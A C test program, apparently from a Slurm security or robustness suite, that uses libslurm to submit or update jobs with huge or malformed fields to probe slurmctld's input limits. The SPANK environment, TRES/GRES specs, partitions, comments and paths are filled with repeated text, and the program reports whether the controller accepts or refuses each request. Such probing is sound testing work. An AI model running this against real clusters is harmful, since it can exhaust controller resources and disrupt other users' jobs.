/* Sends slurmctld what no client of Slurm would, through libslurm.
 * usage: attack_by_api submit KIND BYTES | attack_by_api update KIND BYTES JOBID
 * KIND says which text is so long. Prints the number of a job that was taken; exit status 1: it was refused. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <slurm/slurm.h>
#include <slurm/slurm_errno.h>

/* BYTES bytes of PART, over and over. */
static char *repeat(const char *part, size_t bytes)
{
	size_t length = strlen(part);
	char *text = malloc(bytes + 1);

	if (!text)
		exit(2);
	for (size_t at = 0; at < bytes; at++)
		text[at] = part[at % length];
	text[bytes] = '\0';
	return text;
}

static void fill(job_desc_msg_t *job, const char *kind, size_t bytes)
{
	if (!strcmp(kind, "prefix") || !strcmp(kind, "variable")) {
		job->spank_job_env = malloc(sizeof(char *));
		job->spank_job_env[0] = repeat(!strcmp(kind, "prefix") ? "SPANK_" : "A", bytes);
		job->spank_job_env_size = 1;
		/* A name and a value. */
		memcpy(job->spank_job_env[0] + bytes - 2, "=1", 2);
		if (!strcmp(kind, "variable"))
			memcpy(job->spank_job_env[0], "V=", 2);
	} else if (!strcmp(kind, "variables")) {
		size_t count = bytes / 16;

		job->spank_job_env = malloc(count * sizeof(char *));
		for (size_t at = 0; at < count; at++) {
			job->spank_job_env[at] = malloc(16);
			snprintf(job->spank_job_env[at], 16, "V%zu=1", at);
		}
		job->spank_job_env_size = count;
	} else if (!strcmp(kind, "commas")) {
		job->tres_per_node = repeat(",", bytes);
	} else if (!strcmp(kind, "fractions")) {
		job->tres_per_node = repeat("gres/gpufrac:0.25,", bytes);
		job->tres_per_job = repeat("gres/gpu:1,", bytes);
		job->tres_per_socket = repeat("gres/shard:1,", bytes);
	} else if (!strcmp(kind, "partitions")) {
		job->partition = repeat("gpu,", bytes);
	} else if (!strcmp(kind, "comment")) {
		job->comment = repeat("a", bytes);
	} else if (!strcmp(kind, "extra")) {
		job->extra = repeat("a", bytes);
	} else if (!strcmp(kind, "features")) {
		job->features = repeat("a", bytes);
	} else if (!strcmp(kind, "std_out")) {
		job->std_out = repeat("a", bytes);
	} else {
		exit(2);
	}
}

int main(int argc, char **argv)
{
	job_desc_msg_t job;
	submit_response_msg_t *response = NULL;
	char *environment[] = { "PATH=/usr/bin:/bin" };
	char directory[4096];
	int update = argc == 5 && !strcmp(argv[1], "update");

	if ((argc != 4 && !update) || !getcwd(directory, sizeof(directory)))
		return 2;
	slurm_init(NULL);
	slurm_init_job_desc_msg(&job);
	job.user_id = getuid();
	job.group_id = getgid();
	if (update) {
#if SLURM_VERSION_NUMBER >= SLURM_VERSION_NUM(25, 11, 0)
		job.step_id.job_id = strtoul(argv[4], NULL, 10);
#else
		job.job_id = strtoul(argv[4], NULL, 10);
#endif
	} else {
		job.name = "attack";
		job.min_nodes = 1;
		job.work_dir = directory;
		job.std_out = "/dev/null";
		job.std_err = "/dev/null";
		job.script = "#!/bin/sh\ntrue\n";
		job.environment = environment;
		job.env_size = 1;
	}
	fill(&job, argv[2], strtoul(argv[3], NULL, 10));
	if (update ? slurm_update_job(&job) : slurm_submit_batch_job(&job, &response)) {
		fprintf(stderr, "%s\n", slurm_strerror(errno));
		return 1;
	}
	if (response) {
#if SLURM_VERSION_NUMBER >= SLURM_VERSION_NUM(25, 11, 0)
		printf("%u\n", response->step_id.job_id);
#else
		printf("%u\n", response->job_id);
#endif
	}
	return 0;
}
